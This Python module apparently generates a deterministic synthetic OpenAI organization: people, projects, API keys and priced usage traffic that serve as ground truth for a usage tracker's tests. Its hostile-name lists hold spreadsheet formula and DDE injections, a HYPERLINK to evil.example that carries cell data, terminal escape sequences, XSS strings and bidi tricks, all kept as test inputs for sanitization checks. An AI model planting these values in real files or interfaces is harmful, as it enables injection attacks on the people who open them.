"""A deterministic synthetic OpenAI organization: people, projects, keys and their traffic.

Traffic is a list of events, each at a whole minute, generated hour by hour from ``(seed, hour)``
alone, so an hour's events never change when the organization is built with another ``days`` or
when the clock moves on. Every bucket width and grouping the API serves is an aggregation of these
events, and :meth:`Organization.truth` aggregates the same events for tests.
"""

from __future__ import annotations

import math
import random
import threading
from collections import defaultdict
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass, field
from decimal import Decimal
from functools import cached_property

from usage_tracker.upstream.contract import (
    CONTEXT_LEVELS,
    DIMENSIONS,
    IMAGE_SIZES,
    IMAGE_SOURCES,
    SOURCES,
    WIDTH_SECONDS,
)

from .scale import Size, base_model, created_before, key_models, key_weight, model_catalogue

HOUR = 3600
DAY = 86400

Dims = tuple[str | bool | None, ...]


@dataclass(frozen=True, slots=True)
class SimUser:
    id: str
    name: str
    email: str
    role: str
    added_at: int


@dataclass(frozen=True, slots=True)
class SimProject:
    id: str
    name: str
    created_at: int
    archived_at: int | None
    vector_stores: tuple[str, ...]


@dataclass(frozen=True, slots=True)
class SimKey:
    id: str
    name: str
    project_id: str
    owner_type: str  # "user" or "service_account"
    owner_id: str
    owner_name: str
    owner_email: str | None
    created_at: int
    deleted_at: int | None
    owner_has_access: bool
    models: tuple[str, ...]
    sources: frozenset[str]
    weight: float

    @property
    def user_id(self) -> str | None:
        # Usage made with a service account's key is not attributed to a user.
        return self.owner_id if self.owner_type == "user" else None

    def active(self, ts: int, projects: dict[str, SimProject]) -> bool:
        archived = projects[self.project_id].archived_at
        return (
            self.created_at <= ts
            and (self.deleted_at is None or ts < self.deleted_at)
            and (archived is None or ts < archived)
        )


@dataclass(frozen=True, slots=True)
class CostLine:
    line_item: str
    micros: int
    quantity: int
    unit: str


@dataclass(frozen=True, slots=True)
class Event:
    source: str
    ts: int
    dims: Dims
    metrics: tuple[tuple[str, int], ...]
    costs: tuple[CostLine, ...]
    complimentary: bool = False


# USD per 1M tokens (input, cached input, output); per-unit prices for the other sources.
PRICES: dict[str, tuple[float, float, float]] = {
    "gpt-5": (1.25, 0.125, 10.0),
    "gpt-5-2025-08-07": (1.25, 0.125, 10.0),
    "gpt-5-mini": (0.25, 0.025, 2.0),
    "gpt-5-nano": (0.05, 0.005, 0.4),
    "gpt-5-pro": (15.0, 15.0, 120.0),
    "gpt-4.1": (2.0, 0.5, 8.0),
    "gpt-4.1-mini": (0.4, 0.1, 1.6),
    "gpt-4.1-nano": (0.1, 0.025, 0.4),
    "gpt-4o-2024-08-06": (2.5, 1.25, 10.0),
    "gpt-4o-mini": (0.15, 0.075, 0.6),
    "o3": (2.0, 0.5, 8.0),
    "o4-mini": (1.1, 0.275, 4.4),
    "o1-pro": (150.0, 150.0, 600.0),
    "codex-mini-latest": (1.5, 0.375, 6.0),
    "ft:gpt-4o-mini-2024-07-18:acme::Bx7kQ2": (0.3, 0.15, 1.2),
    "gpt-realtime": (4.0, 0.4, 16.0),
    "text-embedding-3-small": (0.02, 0.02, 0.0),
    "text-embedding-3-large": (0.13, 0.13, 0.0),
    "omni-moderation-latest": (0.0, 0.0, 0.0),
}
TIER_PRICES: dict[str, dict[str, tuple[float, float, float]]] = {
    "flex": {
        "gpt-5": (0.625, 0.0625, 5.0),
        "gpt-5-2025-08-07": (0.625, 0.0625, 5.0),
        "gpt-5-mini": (0.125, 0.0125, 1.0),
        "gpt-5-nano": (0.025, 0.0025, 0.2),
        "o3": (1.0, 0.25, 4.0),
        "o4-mini": (0.55, 0.1375, 2.2),
    },
    "priority": {
        "gpt-5": (2.5, 0.25, 20.0),
        "gpt-5-2025-08-07": (2.5, 0.25, 20.0),
        "gpt-5-mini": (0.45, 0.045, 3.6),
        "gpt-4.1": (3.5, 0.875, 14.0),
        "gpt-4.1-mini": (0.7, 0.175, 2.8),
        "gpt-4.1-nano": (0.2, 0.05, 0.8),
        "gpt-4o-2024-08-06": (4.25, 2.125, 17.0),
        "gpt-4o-mini": (0.25, 0.125, 1.0),
        "o3": (3.5, 0.875, 14.0),
        "o4-mini": (2.0, 0.5, 8.0),
    },
}
"""OpenAI's Flex and Priority prices (USD per 1M tokens: input, cached input, output) for the
models that offer them; traffic of another model on those tiers is served (and billed) as
default."""
AUDIO_PRICES = {"gpt-realtime": (32.0, 64.0)}
"""Realtime models' audio tokens (input, output), billed apart from their text tokens."""
UNIT_PRICES = {
    "gpt-image-1": 0.04,
    "dall-e-3": 0.08,
    "tts-1": 0.000015,
    "gpt-4o-mini-tts": 0.000012,
    "whisper-1": 0.0001,
    "gpt-4o-transcribe": 0.0001,
    "web_search": 0.01,
    "file_search": 0.0025,
    "code_interpreter": 0.03,
    "vector_store_gb_day": 0.1,
}
CHAT_MODELS = tuple(m for m in PRICES if not m.startswith(("text-embedding", "omni-moderation")))
COMPLIMENTARY = frozenset(
    {
        "gpt-5",
        "gpt-5-2025-08-07",
        "gpt-5-mini",
        "gpt-5-nano",
        "gpt-4.1",
        "gpt-4.1-mini",
        "gpt-4.1-nano",
        "gpt-4o-2024-08-06",
        "gpt-4o-mini",
        "o3",
        "o4-mini",
        "codex-mini-latest",
    }
)
"""Models whose traffic OpenAI may report as complimentary (``incentivized-tier``)."""

_PEOPLE = (
    "Jane Smith",
    "Arjun Patel",
    "Mei Chen",
    "Lucas Oliveira",
    "Fatima Al-Sayed",
    "Tom Becker",
    "Sofia Rossi",
    "Kwame Mensah",
)
HOSTILE_KEY_NAMES = (
    '=HYPERLINK("http://evil.example/?"&B2,"Click")',
    "default",
    "default",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\tleading-tab",
    "\rcarriage-return",
    "[link=http://evil.example]billing[/link]",
    "\x1b[31mred\x1b[0m\x07\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "<script>alert('key')</script>",
    "default",
)
"""Key names an outside check uses: live formulas, Rich markup, terminal escapes, HTML, and
"default" thrice (OpenAI keys often share a name)."""
HOSTILE_USER_NAMES = (
    "=1+1",
    "[bold red]Mallory[/bold red]",
    "Eve\x1b[2J\x1b[H",
    "<img src=x onerror=alert('user')>",
    "Sam Lee",
    "Sam Lee",
    "@Trudy",
    "Bidi \u202eevil\u202c name",
)
HOSTILE_PROJECT_NAMES = (
    "=cmd|' /C calc'!A0",
    "default",
    "default",
    "[italic]Project[/italic]",
    "Legacy Chat",
)
_PROJECTS = ("Support Bot", "Research", "Data Pipeline", "Internal Tools", "Legacy Chat")
_RATES = {
    "completions": 7.0,
    "embeddings": 2.0,
    "moderations": 1.0,
    "images": 0.5,
    "audio_speeches": 0.5,
    "audio_transcriptions": 0.5,
    "code_interpreter_sessions": 0.4,
    "file_search_calls": 0.8,
    "web_search_calls": 0.8,
}
"""Mean events per hour at peak, by source (vector_stores is one sample per project a day)."""
DECISIONS_RATE = 1.5


def _ident(rng: random.Random, prefix: str, n: int = 16) -> str:
    alphabet = "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789"
    return prefix + "".join(rng.choice(alphabet) for _ in range(n))


def _micros(quantity: int | float, usd_per_unit: float) -> int:
    return round(quantity * usd_per_unit * 1_000_000)


@dataclass
class Organization:
    """The synthetic organization. ``clock`` gives "now"; traffic exists from ``start`` to now.

    ``late_hours``/``revision``: when ``late_hours`` > 0, events in the last ``late_hours`` hours
    before now are reported incomplete (half at revision 0, three quarters at 1, whole from 2),
    usage and billed cost alike, so a later request sees the recent hours revised upward, as
    OpenAI's late data and late-settling costs are.
    """

    seed: int = 1
    days: int = 90
    clock: Callable[[], float] = field(default=lambda: 0.0)
    late_hours: int = 0
    revision: int = 0
    size: Size | None = None
    """A benchmark organization of this size instead of the small hand-written one."""
    hostile_names: bool = False
    """Names as a hostile member of the organization would choose them (see
    :data:`HOSTILE_KEY_NAMES`): formulas, markup, escape sequences, duplicates."""
    users: list[SimUser] = field(init=False)
    projects: dict[str, SimProject] = field(init=False)
    keys: list[SimKey] = field(init=False)
    start: int = field(init=False)
    leaks: dict[int, list[tuple[str, int]]] = field(init=False, default_factory=dict)
    """Scenario bursts (see :meth:`leak`): hour → (key id, extra completions)."""
    _hours: dict[int, tuple[Event, ...]] = field(init=False, default_factory=dict)
    _lock: threading.Lock = field(init=False, default_factory=threading.Lock)

    def __post_init__(self) -> None:
        anchor = int(self.clock())
        self.start = anchor - anchor % DAY - self.days * DAY
        rng = random.Random(f"org:{self.seed}")
        if self.size is not None:
            self._build_scaled(rng, self.size)
            return
        self._build_people(rng)
        self._build_projects(rng, anchor)
        self._build_keys(rng, anchor)
        if self.hostile_names:
            self._rename_hostile()

    @property
    def now(self) -> int:
        return int(self.clock())

    def revise(self) -> None:
        """Report the late hours more completely from now on (see the class docstring)."""
        self.revision += 1

    def leak(self, key_name: str, at: int, requests: int) -> SimKey:
        """Scenario: the key named ``key_name`` makes ``requests`` more completions in the hour
        that holds ``at``, as a leaked key would."""
        key = next(k for k in self.keys if k.name == key_name)
        hour = at - at % HOUR
        with self._lock:
            self.leaks.setdefault(hour, []).append((key.id, requests))
            self._hours.pop(hour, None)
        return key

    def _build_scaled(self, rng: random.Random, size: Size) -> None:
        self.users = [
            SimUser(
                id=_ident(rng, "user-", 24),
                name=f"User {i:03d}",
                email=f"user{i:03d}@example.com",
                role="owner" if i == 0 else "reader",
                added_at=self.start - rng.randrange(30, 400) * DAY,
            )
            for i in range(size.users)
        ]
        self.projects = {}
        for i in range(size.projects):
            pid = _ident(rng, "proj_", 24)
            stores = (_ident(rng, "vs_", 24),)
            self.projects[pid] = SimProject(
                pid, f"Project {i:02d}", self.start - rng.randrange(60, 600) * DAY, None, stores
            )
        pids = list(self.projects)
        catalogue = model_catalogue(CHAT_MODELS, size.models)
        self.keys = []
        for i in range(size.keys):
            service = i % 10 == 9
            user = self.users[i % size.users]
            self.keys.append(
                SimKey(
                    id=_ident(rng, "key_", 16),
                    name=f"key-{i:03d}",
                    project_id=pids[i % size.projects],
                    owner_type="service_account" if service else "user",
                    owner_id=_ident(rng, "svc_", 24) if service else user.id,
                    owner_name=f"service-{i:03d}" if service else user.name,
                    owner_email=None if service else user.email,
                    created_at=created_before(rng, self.start),
                    deleted_at=None,
                    owner_has_access=True,
                    models=key_models(rng, catalogue),
                    sources=frozenset(SOURCES),
                    weight=key_weight(rng),
                )
            )

    # -- structure --------------------------------------------------------------------------

    def _build_people(self, rng: random.Random) -> None:
        self.users = []
        for i, name in enumerate(_PEOPLE):
            first, last = name.lower().split(" ", 1)
            self.users.append(
                SimUser(
                    id=_ident(rng, "user-", 24),
                    name=name,
                    email=f"{first}.{last.replace(' ', '')}@example.com",
                    role="owner" if i == 0 else "reader",
                    added_at=self.start - rng.randrange(30, 400) * DAY,
                )
            )

    def _build_projects(self, rng: random.Random, anchor: int) -> None:
        self.projects = {}
        for i, name in enumerate(_PROJECTS):
            pid = _ident(rng, "proj_", 24)
            archived = None
            if name == "Legacy Chat":
                archived = self.start + int(self.days * 0.7) * DAY + 13 * HOUR
            stores = tuple(_ident(rng, "vs_", 24) for _ in range(1 + i % 2))
            self.projects[pid] = SimProject(
                pid, name, self.start - rng.randrange(60, 600) * DAY, archived, stores
            )

    def _build_keys(self, rng: random.Random, anchor: int) -> None:
        pids = list(self.projects)
        all_sources = frozenset(SOURCES)
        small = ("gpt-5-mini", "gpt-5-nano", "gpt-4.1-mini", "gpt-4.1-nano", "gpt-4o-mini")
        big = ("gpt-5", "gpt-5-2025-08-07", "gpt-4.1", "gpt-4o-2024-08-06", "o3")
        plans: list[tuple[int, int | None, str, tuple[str, ...], frozenset[str], float]] = [
            # (owner user index or -1 for a service account, deleted, name, models, sources, weight)
            (0, None, "jane-laptop", small + big[:2], all_sources, 3.0),
            (1, None, "arjun-research", ("o3", "o4-mini", "gpt-5", "o1-pro"), all_sources, 2.0),
            (
                2,
                None,
                "mei-dev",
                ("gpt-4.1-mini", "gpt-4.1", "codex-mini-latest"),
                all_sources,
                2.0,
            ),
            (3, None, "lucas-support", ("gpt-4o-mini", "gpt-4o-2024-08-06"), all_sources, 1.5),
            (4, None, "fatima-eval", ("gpt-5-pro", "gpt-5", "gpt-5-nano"), all_sources, 1.0),
            (
                5,
                None,
                "tom-finetune",
                ("ft:gpt-4o-mini-2024-07-18:acme::Bx7kQ2",),
                all_sources,
                1.0,
            ),
            (6, None, "sofia-voice", ("gpt-realtime", "gpt-4o-mini"), all_sources, 1.0),
            (7, -1, "kwame-old-key", ("gpt-4o-mini", "gpt-4.1-nano"), all_sources, 1.0),
            (-1, None, "ingest-service", ("gpt-5-nano", "gpt-4.1-nano"), all_sources, 2.5),
            (-1, None, "ci-bot", ("gpt-5-mini", "codex-mini-latest"), all_sources, 1.0),
            (0, None, "jane-legacy", ("gpt-4o-mini",), frozenset({"completions"}), 1.0),
            (2, None, "mei-batch", ("gpt-4.1-mini", "gpt-5-mini"), all_sources, 1.0),
        ]
        self.keys = []
        for i, (owner, deleted, name, models, sources, weight) in enumerate(plans):
            legacy = name == "jane-legacy"
            pid = pids[4] if legacy else pids[i % 4]
            if owner >= 0:
                u = self.users[owner]
                otype, oid, oname, oemail = "user", u.id, u.name, u.email
            else:
                otype, oid, oname, oemail = "service_account", _ident(rng, "svc_", 24), name, None
            created = self.start - rng.randrange(1, 200) * DAY
            if name == "mei-batch":
                created = self.start + (self.days // 3) * DAY
            deleted_at = None if deleted is None else self.start + int(self.days * 0.6) * DAY
            self.keys.append(
                SimKey(
                    id=_ident(rng, "key_", 16),
                    name=name,
                    project_id=pid,
                    owner_type=otype,
                    owner_id=oid,
                    owner_name=oname,
                    owner_email=oemail,
                    created_at=created,
                    deleted_at=deleted_at,
                    owner_has_access=name != "sofia-voice",
                    models=models,
                    sources=sources,
                    weight=weight,
                )
            )

    def _rename_hostile(self) -> None:
        """Every key, user and project renamed as strangers may name them; ids, emails and
        traffic stay as they were."""
        import dataclasses

        self.users = [
            dataclasses.replace(u, name=HOSTILE_USER_NAMES[i % len(HOSTILE_USER_NAMES)])
            for i, u in enumerate(self.users)
        ]
        by_id = {u.id: u.name for u in self.users}
        self.keys = [
            dataclasses.replace(
                k,
                name=HOSTILE_KEY_NAMES[i % len(HOSTILE_KEY_NAMES)],
                owner_name=by_id.get(k.owner_id, HOSTILE_KEY_NAMES[i % len(HOSTILE_KEY_NAMES)]),
            )
            for i, k in enumerate(self.keys)
        ]
        self.projects = {
            pid: dataclasses.replace(p, name=HOSTILE_PROJECT_NAMES[i % len(HOSTILE_PROJECT_NAMES)])
            for i, (pid, p) in enumerate(self.projects.items())
        }

    # -- traffic ----------------------------------------------------------------------------

    def events(self, t0: int, t1: int) -> Iterator[Event]:
        """Every event with ``t0 <= ts < min(t1, now)``, as reported now (late data applied)."""
        now = self.now
        t1 = min(t1, now)
        hour = max(t0, self.start)
        hour -= hour % HOUR
        late_from = now - self.late_hours * HOUR if self.late_hours else now
        while hour < t1:
            for event in self._hour(hour):
                if t0 <= event.ts < t1:
                    yield self._as_reported(event) if event.ts >= late_from else event
            hour += HOUR

    def _as_reported(self, event: Event) -> Event:
        quarters = min(4, 2 + self.revision)
        if quarters == 4:
            return event
        metrics = tuple((k, v * quarters // 4) for k, v in event.metrics)
        # Billed cost settles late as well: the same share of each line item is reported.
        costs = tuple(
            CostLine(c.line_item, c.micros * quarters // 4, c.quantity * quarters // 4, c.unit)
            for c in event.costs
        )
        return Event(event.source, event.ts, event.dims, metrics, costs, event.complimentary)

    def _hour(self, hour: int) -> tuple[Event, ...]:
        cached = self._hours.get(hour)
        if cached is None:
            cached = tuple(sorted(self._generate(hour), key=lambda e: e.ts))
            with self._lock:
                self._hours[hour] = cached
        return cached

    @cached_property
    def _rates(self) -> dict[str, float]:
        if self.size is None:
            return _RATES
        # Completions at the chosen rows per hour on average over a week's rhythm.
        week = [self._activity(h * HOUR) for h in range(7 * 24)]
        return {**_RATES, "completions": self.size.rows_per_hour * len(week) / sum(week)}

    def _activity(self, hour: int) -> float:
        hod = (hour % DAY) // HOUR
        weekday = (hour // DAY + 3) % 7  # 1970-01-01 was a Thursday; Monday is 0
        daily = 0.12 + 0.88 * math.exp(-(((hod - 16) / 4.5) ** 2))
        return daily * (0.3 if weekday >= 5 else 1.0)

    def _generate(self, hour: int) -> Iterable[Event]:
        rng = random.Random(f"{self.seed}:{hour}")
        active = [k for k in self.keys if k.active(hour, self.projects)]
        activity = self._activity(hour)
        for source, rate in self._rates.items():
            keys = [k for k in active if source in k.sources]
            if not keys:
                continue
            weights = [k.weight for k in keys]
            for _ in range(_poisson(rng, rate * activity)):
                key = rng.choices(keys, weights)[0]
                ts = hour + rng.randrange(60) * 60
                yield _MAKERS[source](self, rng, key, ts)
        if hour % DAY == 0:
            yield from self._vector_store_samples(rng, hour)
        # A source added later draws from a generator of its own: the others stay as they were.
        later = random.Random(f"{self.seed}:{hour}:decisions")
        keys = [k for k in active if "decisions" in k.sources]
        for _ in range(_poisson(later, DECISIONS_RATE * activity) if keys else 0):
            key = later.choices(keys, [k.weight for k in keys])[0]
            yield _decision(self, later, key, hour + later.randrange(60) * 60)
        for key_id, requests in self.leaks.get(hour, ()):
            key = next(k for k in self.keys if k.id == key_id)
            for _ in range(requests):
                yield _completion(self, rng, key, hour + rng.randrange(60) * 60)

    def _vector_store_samples(self, rng: random.Random, hour: int) -> Iterable[Event]:
        for project in self.projects.values():
            if project.archived_at is not None and hour >= project.archived_at:
                continue
            size = rng.randrange(50, 5000) * 1_000_000
            cost = CostLine(
                "vector store storage",
                _micros(size / 1e9, UNIT_PRICES["vector_store_gb_day"]),
                size,
                "",  # bytes have no unit in the contract's list; quantity_unit stays null
            )
            yield Event(
                "vector_stores",
                hour,
                _dims(project_id=project.id),
                (("usage_bytes", size),),
                (cost,),
            )

    # -- ground truth -----------------------------------------------------------------------

    def truth(
        self,
        source: str,
        start: int,
        end: int,
        group_by: Sequence[str] = (),
        *,
        bucket_width: str | None = None,
    ) -> dict[tuple[object, ...], dict[str, int]]:
        """Totals of ``source`` in [start, end), keyed by the ``group_by`` values (bucket first)."""
        totals: dict[tuple[object, ...], dict[str, int]] = defaultdict(
            lambda: dict.fromkeys(SOURCES[source].metrics, 0)
        )
        for event in self.events(start, end):
            if event.source != source:
                continue
            key = _group_key(event.dims, group_by)
            if bucket_width:
                step = WIDTH_SECONDS[bucket_width]
                key = (event.ts - event.ts % step, *key)
            row = totals[key]
            for name, value in event.metrics:
                row[name] += value
        return dict(totals)

    def cost_truth(
        self, start: int, end: int, group_by: Sequence[str] = ()
    ) -> dict[tuple[object, ...], Decimal]:
        """Billed USD in [start, end) by ``group_by`` among project_id, line_item, api_key_id."""
        micros: dict[tuple[object, ...], int] = defaultdict(int)
        for event, line in self.cost_lines(start, end):
            values = {
                "project_id": event.dims[0],
                "api_key_id": event.dims[2],
                "line_item": line.line_item,
            }
            micros[tuple(values[g] for g in group_by)] += line.micros
        return {k: Decimal(v) / 1_000_000 for k, v in micros.items()}

    def cost_lines(self, start: int, end: int) -> Iterator[tuple[Event, CostLine]]:
        for event in self.events(start, end):
            if not event.complimentary:
                for line in event.costs:
                    yield event, line


def _group_key(dims: Dims, group_by: Sequence[str]) -> tuple[object, ...]:
    return tuple(dims[DIMENSIONS.index(g)] for g in group_by)


def _dims(**values: str | bool | None) -> Dims:
    return tuple(values.get(d) for d in DIMENSIONS)


def _poisson(rng: random.Random, mean: float) -> int:
    # Knuth's method; means here are below 10, so the loop is short.
    limit, k, p = math.exp(-mean), 0, 1.0
    while True:
        p *= rng.random()
        if p <= limit:
            return k
        k += 1


def _people(key: SimKey) -> dict[str, str | bool | None]:
    return {"project_id": key.project_id, "user_id": key.user_id, "api_key_id": key.id}


def _completion(org: Organization, rng: random.Random, key: SimKey, ts: int) -> Event:
    model = rng.choice(key.models)
    requests = 1 + int(rng.expovariate(0.15))
    input_tokens = requests * int(rng.lognormvariate(8.0, 0.9))
    cached = int(input_tokens * rng.choice((0.0, 0.0, 0.3, 0.6)))
    cache_write = int((input_tokens - cached) * rng.choice((0.0, 0.0, 0.1)))
    uncached = input_tokens - cached - cache_write
    output = int(input_tokens * rng.uniform(0.05, 0.5))
    free = base_model(model) in COMPLIMENTARY
    batch = free and rng.random() < 0.1
    complimentary = free and not batch and rng.random() < 0.35
    tier = (
        "incentivized-tier"
        if complimentary
        else rng.choice(("default",) * 6 + ("flex", "priority"))
    )
    audio = model == "gpt-realtime"
    in_audio = uncached // 2 if audio else 0
    out_audio = output // 2 if audio else 0
    in_image = uncached // 10 if model == "gpt-4.1" else 0
    # Cache writes by time to live, drawn from the minute (not the generator: the rest of the
    # organization stays as it was before these fields existed).
    ttl = (ts // 60) % 3
    write_30m = cache_write if ttl == 1 else 0
    write_12h = cache_write if ttl == 2 else 0
    metrics = {
        "input_tokens": input_tokens,
        "input_cached_tokens": cached,
        "input_cache_write_tokens": cache_write,
        "input_cache_write_30m_tokens": write_30m,
        "input_cache_write_12h_tokens": write_12h,
        "input_uncached_tokens": uncached,
        "output_tokens": output,
        "input_text_tokens": uncached - in_audio - in_image,
        "output_text_tokens": output - out_audio,
        "input_cached_text_tokens": cached,
        "input_audio_tokens": in_audio,
        "input_cached_audio_tokens": 0,
        "output_audio_tokens": out_audio,
        "input_image_tokens": in_image,
        "input_cached_image_tokens": 0,
        "output_image_tokens": 0,
        "num_model_requests": requests,
    }
    if batch or (tier in TIER_PRICES and base_model(model) not in TIER_PRICES[tier]):
        # The Batch API has no service tier of its own choosing, and OpenAI offers Flex and
        # Priority for some models only: those requests are served (and billed) as default.
        tier = "default"
    costs = _completion_costs(model, tier, batch, metrics)
    dims = _dims(
        **_people(key), model=model, batch=batch, service_tier=tier, api_source=_api_source(key)
    )
    return Event("completions", ts, dims, tuple(metrics.items()), costs, complimentary)


def _completion_costs(
    model: str, tier: str, batch: bool, metrics: dict[str, int]
) -> tuple[CostLine, ...]:
    """The line items OpenAI bills a completion with: at the tier's prices (Batch at half),
    audio tokens of realtime models at their own rates, each modality its own line item."""
    base = base_model(model)
    p_in, p_cached, p_out = TIER_PRICES.get(tier, {}).get(base) or PRICES[base]
    discount = 0.5 if batch else 1.0
    uncached = metrics["input_uncached_tokens"] + metrics["input_cache_write_tokens"]
    cached, output = metrics["input_cached_tokens"], metrics["output_tokens"]

    def line(item: str, tokens: int, usd_per_million: float) -> CostLine:
        return CostLine(item, _micros(tokens / 1e6, usd_per_million * discount), tokens, "tokens")

    if base in AUDIO_PRICES:
        a_in, a_out = AUDIO_PRICES[base]
        audio_in, audio_out = metrics["input_audio_tokens"], metrics["output_audio_tokens"]
        item = f"realtime api | {model}"
        return (
            line(f"{item}, text, input", uncached - audio_in, p_in),
            line(f"{item}, audio, input", audio_in, a_in),
            line(f"{item}, text, cached input", cached, p_cached),
            line(f"{item}, text, output", output - audio_out, p_out),
            line(f"{item}, audio, output", audio_out, a_out),
        )
    # Fine-tuned models are billed as "ft-…" where usage says "ft:…".
    item = "ft-" + model.removeprefix("ft:") if model.startswith("ft:") else model
    return (
        line(f"{item}, input", uncached, p_in),
        line(f"{item}, cached input", cached, p_cached),
        line(f"{item}, output", output, p_out),
    )


AGENT_KEYS = frozenset({"ingest-service", "ci-bot"})
"""Keys whose traffic OpenAI attributes to the Agents API (``api_source``)."""


def _api_source(key: SimKey) -> str:
    return "agents_api" if key.name in AGENT_KEYS else "unlabeled"


def _decision(org: Organization, rng: random.Random, key: SimKey, ts: int) -> Event:
    """Decisions API usage: shaped as completions (the same fields), never complimentary."""
    event = _completion(org, rng, key, ts)
    tier = event.dims[DIMENSIONS.index("service_tier")]
    dims = _dims(
        **_people(key),
        model=event.dims[DIMENSIONS.index("model")],
        batch=event.dims[DIMENSIONS.index("batch")],
        service_tier="default" if tier == "incentivized-tier" else tier,
        api_source=_api_source(key),
    )
    return Event("decisions", ts, dims, event.metrics, event.costs)


def _token_event(source: str, models: tuple[str, ...]) -> Callable[..., Event]:
    def make(org: Organization, rng: random.Random, key: SimKey, ts: int) -> Event:
        model = rng.choice(models)
        requests = 1 + int(rng.expovariate(0.3))
        tokens = requests * int(rng.lognormvariate(6.0, 1.0))
        cost = CostLine(
            f"{model}, input", _micros(tokens / 1e6, PRICES[model][0]), tokens, "tokens"
        )
        metrics = (("input_tokens", tokens), ("num_model_requests", requests))
        return Event(source, ts, _dims(**_people(key), model=model), metrics, (cost,))

    return make


def _image(org: Organization, rng: random.Random, key: SimKey, ts: int) -> Event:
    model = rng.choice(("gpt-image-1", "dall-e-3"))
    requests = 1 + int(rng.expovariate(0.8))
    images = requests * rng.randint(1, 4)
    cost = CostLine(f"{model}, images", _micros(images, UNIT_PRICES[model]), images, "images")
    dims = _dims(
        **_people(key), model=model, size=rng.choice(IMAGE_SIZES), source=rng.choice(IMAGE_SOURCES)
    )
    metrics = (("images", images), ("num_model_requests", requests))
    return Event("images", ts, dims, metrics, (cost,))


def _audio(
    source: str, counter: str, models: tuple[str, ...], lo: int, hi: int
) -> Callable[..., Event]:
    def make(org: Organization, rng: random.Random, key: SimKey, ts: int) -> Event:
        model = rng.choice(models)
        requests = 1 + int(rng.expovariate(0.5))
        amount = requests * rng.randint(lo, hi)
        unit = "characters" if counter == "characters" else "duration_seconds"
        cost = CostLine(f"{model}, {counter}", _micros(amount, UNIT_PRICES[model]), amount, unit)
        metrics = ((counter, amount), ("num_model_requests", requests))
        return Event(source, ts, _dims(**_people(key), model=model), metrics, (cost,))

    return make


def _code_interpreter(org: Organization, rng: random.Random, key: SimKey, ts: int) -> Event:
    sessions = rng.randint(1, 5)
    cost = CostLine(
        "code interpreter sessions",
        _micros(sessions, UNIT_PRICES["code_interpreter"]),
        sessions,
        "",
    )
    return Event(
        "code_interpreter_sessions",
        ts,
        _dims(project_id=key.project_id),
        (("num_sessions", sessions),),
        (cost,),
    )


def _file_search(org: Organization, rng: random.Random, key: SimKey, ts: int) -> Event:
    calls = rng.randint(1, 20)
    store = rng.choice(org.projects[key.project_id].vector_stores)
    cost = CostLine("file search tool calls", _micros(calls, UNIT_PRICES["file_search"]), calls, "")
    dims = _dims(**_people(key), vector_store_id=store)
    return Event("file_search_calls", ts, dims, (("num_requests", calls),), (cost,))


def _web_search(org: Organization, rng: random.Random, key: SimKey, ts: int) -> Event:
    model = rng.choice(key.models)
    requests = rng.randint(1, 8)
    calls = requests * rng.randint(1, 3)
    cost = CostLine("web search tool calls", _micros(calls, UNIT_PRICES["web_search"]), calls, "")
    dims = _dims(
        **_people(key),
        model=model,
        context_level=rng.choice(CONTEXT_LEVELS),
        api_source=_api_source(key),
    )
    metrics = (("num_model_requests", requests), ("num_requests", calls))
    return Event("web_search_calls", ts, dims, metrics, (cost,))


_MAKERS: dict[str, Callable[[Organization, random.Random, SimKey, int], Event]] = {
    "completions": _completion,
    "embeddings": _token_event("embeddings", ("text-embedding-3-small", "text-embedding-3-large")),
    "moderations": _token_event("moderations", ("omni-moderation-latest",)),
    "images": _image,
    "audio_speeches": _audio(
        "audio_speeches", "characters", ("tts-1", "gpt-4o-mini-tts"), 200, 5000
    ),
    "audio_transcriptions": _audio(
        "audio_transcriptions", "seconds", ("whisper-1", "gpt-4o-transcribe"), 10, 600
    ),
    "code_interpreter_sessions": _code_interpreter,
    "file_search_calls": _file_search,
    "web_search_calls": _web_search,
}
